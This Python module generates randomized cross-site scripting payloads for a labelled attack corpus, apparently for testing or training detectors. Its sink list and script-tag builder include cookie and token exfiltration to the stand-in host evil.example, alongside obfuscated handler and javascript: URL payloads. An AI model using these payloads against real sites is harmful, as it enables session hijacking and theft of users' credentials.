"""Cross-site scripting: script that runs once the value is written into a page.

Contexts: raw HTML (a tag with an event handler, a script element, a URL attribute), a
breakout from an attribute value or a JavaScript string, and URL values (`javascript:`,
`data:`). Tag and attribute names take a case, separators vary (`/`, tab, line break), and
the handler need not follow the quote (`" autofocus onfocus=...`)."""

from __future__ import annotations

import base64
import random

from owncorpus.grammar import Attack, case, draw_distinct, one

CLASS = "xss"
PARAMS = ("q", "comment", "name", "message", "title", "redirect", "bio", "search", "text", "callback")

SINKS = (
    "alert(1)", "alert`1`", "confirm(document.domain)", "prompt(1)", "alert(document.cookie)",
    "eval(atob('YWxlcnQoMSk='))", "fetch('//evil.example/'+document.cookie)",
    "document.location='//evil.example/?c='+document.cookie", "top['al'+'ert'](1)", "window['alert'](1)",
    "setTimeout('alert(1)')", "Function('alert(1)')()", "import('//evil.example/x.js')", "(alert)(1)",
    "self[`alert`](1)", "new Image().src='//evil.example/?'+document.cookie", "location=name",
    "navigator.sendBeacon('//evil.example',localStorage.token)", "[1].find(alert)", "alert?.(1)",
)
# (tag, attributes that make the event fire, event)
EVENT_TAGS = (
    ("img", "src=x", "onerror"), ("svg", "", "onload"), ("body", "", "onload"), ("details", "open", "ontoggle"),
    ("input", "autofocus", "onfocus"), ("select", "autofocus", "onfocus"), ("textarea", "autofocus", "onfocus"),
    ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"), ("iframe", "src=x", "onload"),
    ("marquee", "", "onstart"), ("div", "", "onmouseover"), ("a", "href=#", "onclick"),
    ("svg><image", "href=x", "onerror"), ("body", "", "onpageshow"), ("x", "tabindex=1 autofocus", "onfocus"),
    ("image", "src=x", "onerror"), ("video><source", "src=x", "onerror"), ("style", "", "onload"),
    ("svg><animate", "attributeName=x dur=1s", "onbegin"), ("input", "type=image src=x", "onerror"),
    ("p", "", "onpointerenter"), ("button", "autofocus", "onfocus"), ("embed", "src=x", "onload"),
)
URL_TAGS = (("a", "href", ">x</a>"), ("iframe", "src", "></iframe>"), ("object", "data", "></object>"),
            ("form><button", "formaction", ">x</button></form>"),
            ("math><a", "xlink:href", ">x</a></math>"), ("svg><a", "href", "><text y=20>x</text></a></svg>"))
BREAKOUTS = ("", "", "\">", "'>", "\"/>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</style>", "\"><!--x-->")
SEPARATORS = (" ", " ", "/", "\t", "\n", "\r\n", "/x/ ", "  ")


def _quote(value: str, rng: random.Random) -> str:
    options = []
    if '"' not in value:
        options.append('"' + value + '"')
    if "'" not in value:
        options.append("'" + value + "'")
    if not any(c in value for c in " \t\n>'\"`=<"):
        options.append(value)
    # an attribute value's character references are decoded before the handler runs
    return one(rng, options) if options else '"' + value.replace('"', "&quot;") + '"'


def _js_url(sink: str, rng: random.Random) -> str:
    scheme = one(rng, ("javascript", "JaVaScRiPt", "JAVASCRIPT", "java\tscript", "java\nscript", " javascript",
                       "&#106;avascript", "javascript&colon;", "&#x6A;&#x61;&#x76;&#x61;script"))
    colon = "" if scheme.endswith(";") else ":"
    body = one(rng, (sink, "//%0a" + sink, "void(" + sink + ")"))
    if rng.random() < 0.2:
        html = "<script>" + sink + "</script>"
        return one(rng, ("data:text/html," + html,
                         "data:text/html;base64," + base64.b64encode(html.encode()).decode()))
    return scheme + colon + body


def _event_tag(rng: random.Random) -> str:
    tag, attrs, event = one(rng, EVENT_TAGS)
    sep = one(rng, SEPARATORS)
    parts = [attrs] if attrs else []
    handler = case(event, rng) + "=" + _quote(one(rng, SINKS), rng)
    # the handler anywhere among the attributes, not only right after the tag name
    parts.insert(rng.randrange(len(parts) + 1), handler)
    if rng.random() < 0.3:
        parts.insert(rng.randrange(len(parts) + 1), one(rng, ("x", "class=a", "id=x", "style=x:expression(1)")))
    close = one(rng, (">", ">", "/>", " >", "//"))
    return "<" + case(tag, rng) + sep + sep.join(parts) + close


def _script_tag(rng: random.Random) -> str:
    t = case("script", rng)
    src = rng.random() < 0.25
    if src:
        return f"<{t} src={one(rng, ('//evil.example/x.js', 'https://evil.example/x.js', 'data:,alert(1)'))}></{t}>"
    return f"<{t}{one(rng, ('', ' type=module', ' defer', '/x'))}>{one(rng, SINKS)}</{case('script', rng)}>"


def _url_tag(rng: random.Random) -> str:
    tag, attr, close = one(rng, URL_TAGS)
    value = _js_url(one(rng, SINKS), rng)
    return f"<{case(tag, rng)} {attr}={_quote(value, rng)}{close}"


def _attribute_breakout(rng: random.Random) -> str:
    q = one(rng, ('"', "'"))
    tag, attrs, event = one(rng, EVENT_TAGS)
    extra = one(rng, ("", "autofocus ", "tabindex=1 ", "style=display:block ", "x "))
    handler = f"{case(event if event != 'onerror' else 'onfocus', rng)}={q}{one(rng, SINKS)}"
    lead = one(rng, (" ", "/", "\t", ""))
    if "autofocus" not in extra and handler.lower().startswith("onfocus"):
        extra = "autofocus " + extra
    return f"{q}{lead}{extra}{handler}" + ("" if rng.random() < 0.5 else f" x={q}")


def _js_string_breakout(rng: random.Random) -> str:
    sink = one(rng, SINKS)
    if "=" in sink:
        sink = "(" + sink + ")"  # an assignment inside `'-...-'` must be an expression
    return one(rng, (f"';{sink};//", f"\";{sink};//", f"'-{sink}-'", f"\"-{sink}-\"", f"\\';{sink}//",
                     f"</script><script>{sink}</script>", f"${{{sink}}}", f"'}};{sink};{{'", f"\");{sink};(\""))


def _compose(rng: random.Random) -> str:
    form = rng.randrange(10)
    if form < 4:
        body = _event_tag(rng)
    elif form < 5:
        body = _script_tag(rng)
    elif form < 7:
        body = _url_tag(rng)
    elif form < 8:
        return _attribute_breakout(rng)
    elif form < 9:
        return _js_string_breakout(rng)
    else:
        return _js_url(one(rng, SINKS), rng)
    return one(rng, BREAKOUTS) + body


def attacks(rng: random.Random, n: int) -> list[Attack]:
    return [Attack(CLASS, p, PARAMS) for p in draw_distinct(rng, _compose, n)]
